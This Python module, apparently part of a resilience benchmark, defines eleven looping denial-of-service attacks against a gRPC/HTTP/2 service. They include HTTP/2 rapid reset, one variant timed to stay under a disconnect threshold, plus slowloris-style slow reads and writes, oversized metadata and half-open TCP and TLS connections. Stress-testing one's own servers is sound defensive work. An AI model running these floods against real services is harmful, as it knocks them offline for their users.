"""What attackers do, each on connections of its own; all of them go on until they are stopped."""

import asyncio
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Final

from bench.abuse.frames import Line, data, head, opening, reset

HOT: Final = "/argus.v1.TokenService/VerifyAccessToken"
COLD: Final = "/argus.v1.SessionService/GetSession"
_MIB: Final = 1024 * 1024
# A TLS record that says that it holds 512 bytes of a ClientHello, and the first few of them.
_HALF_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """Where it hits.

    Attributes:
        plain: Host and port without TLS.
        encrypted: Host and port with it.
        document: Path of a document that anybody may read.
    """

    plain: str
    encrypted: str
    document: str


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """One kind of attack.

    Attributes:
        what: In words.
        lines: Connections at a time; one that is closed is opened again.
        play: What each of them does until it is closed.
    """

    what: str
    lines: int
    play: Callable[[Target], Awaitable[None]]


async def wide_metadata(target: Target) -> None:
    """Header lists of 80 KB, one after the other."""
    line = await Line.to(target.plain)
    block = head(COLD, "POST", *((f"x-{number}", "v" * 1000) for number in range(80)))
    try:
        while not line.has_ended:
            for stream in line.streams(10):
                await line.send(opening(stream, block, ends=True))
            await asyncio.sleep(0)
    finally:
        line.close()


async def long_messages(target: Target) -> None:
    """Messages that say that they have 64 MiB, as much of them as the window lets through, on a hundred streams."""
    line = await Line.to(target.plain)
    try:
        for stream in line.streams(100):
            await line.send(opening(stream, head(HOT), ends=False), data(stream, b"\0\x04\0\0\0"))
            for _ in range(4):
                await line.send(data(stream, bytes(16_000)))
        await line.lasts(5)
    finally:
        line.close()


def many_streams(path: str) -> Callable[[Target], Awaitable[None]]:
    """A thousand calls at a time whose message does not come; those that are answered are begun anew."""

    async def play(target: Target) -> None:
        line, block = await Line.to(target.plain), head(path)
        try:
            while not line.has_ended:
                await line.send(*(opening(stream, block, ends=False) for stream in line.streams(1000)))
                await line.lasts(3)
        finally:
            line.close()

    return play


async def reset_bursts(target: Target) -> None:
    """Calls that are given up as soon as they are made, a hundred at a time."""
    line, block = await Line.to(target.plain), head(COLD)
    try:
        while not line.has_ended:
            streams = line.streams(100)
            await line.send(*(opening(one, block, ends=False) + reset(one) for one in streams))
            await asyncio.sleep(0)
    finally:
        line.close()


async def reset_spaced(target: Target) -> None:
    """Calls that are given up after a moment, 150 a second: fewer than a connection is closed for."""
    line, block = await Line.to(target.plain), head(COLD)
    try:
        while not line.has_ended:
            begun, (stream,) = time.monotonic(), line.streams(1)
            await line.send(opening(stream, block, ends=False), data(stream, bytes(5)))
            await asyncio.sleep(0.001)
            await line.send(reset(stream))
            await line.lasts(max(0.0, begun + 1 / 150 - time.monotonic()))
    finally:
        line.close()


async def slow_readers(target: Target) -> None:
    """A thousand documents asked for, of which not a byte is taken."""
    line, block = await Line.to(target.plain, window=0), head(target.document, "GET")
    try:
        await line.send(*(opening(stream, block, ends=True) for stream in line.streams(1000)))
        await line.lasts(60)
    finally:
        line.close()


async def slow_writers(target: Target) -> None:
    """Two hundred messages of which a byte comes now and then, half of them of hot calls."""
    line = await Line.to(target.plain)
    streams = line.streams(200)
    try:
        for stream in streams:
            await line.send(opening(stream, head(COLD if stream % 4 == 1 else HOT), ends=False))
            await line.send(data(stream, b"\0\0\0\x10\0"))
        while await line.lasts(0.5):
            # A stream that was answered meanwhile is closed: what comes for it is for nobody.
            await line.send(*(data(stream, b"x") for stream in streams))
    finally:
        line.close()


async def slow_heads(target: Target) -> None:
    """A request of HTTP/1.1 of which a letter comes now and then."""
    line = await Line.silent(target.plain)
    try:
        await line.send(b"GET / HTTP/1.1\r\nhost: argus\r\nx-slow: ")
        while not line.has_ended:
            await line.send(b"x")
            await asyncio.sleep(0.5)
    finally:
        line.close()


def half_open(said: bytes, *, tls: bool) -> Callable[[Target], Awaitable[None]]:
    """A connection on which nothing comes, or half a handshake."""

    async def play(target: Target) -> None:
        line = await Line.silent(target.encrypted if tls else target.plain)
        try:
            await line.send(said)
            line.listen()
            await line.lasts(60)
        finally:
            line.close()

    return play


ATTACKS: Final[Mapping[str, Attack]] = {
    "wide_metadata": Attack(what="metadata of 80 KB", lines=8, play=wide_metadata),
    "long_messages": Attack(what="messages beyond the bound", lines=20, play=long_messages),
    "streams_hot": Attack(what="10,000 hot calls without a message", lines=10, play=many_streams(HOT)),
    "streams_cold": Attack(what="10,000 cold calls without a message", lines=10, play=many_streams(COLD)),
    "reset_bursts": Attack(what="rapid reset in bursts", lines=8, play=reset_bursts),
    "reset_spaced": Attack(what="rapid reset, spaced, below the rate", lines=10, play=reset_spaced),
    "slow_readers": Attack(what="10,000 answers that nobody reads", lines=10, play=slow_readers),
    "slow_writers": Attack(what="2,000 messages a byte at a time", lines=10, play=slow_writers),
    "slow_heads": Attack(what="HTTP/1.1 heads a letter at a time", lines=300, play=slow_heads),
    "half_open": Attack(what="TCP connections without a byte", lines=1000, play=half_open(b"", tls=False)),
    "half_tls": Attack(what="half TLS handshakes", lines=300, play=half_open(_HALF_HELLO, tls=True)),
}
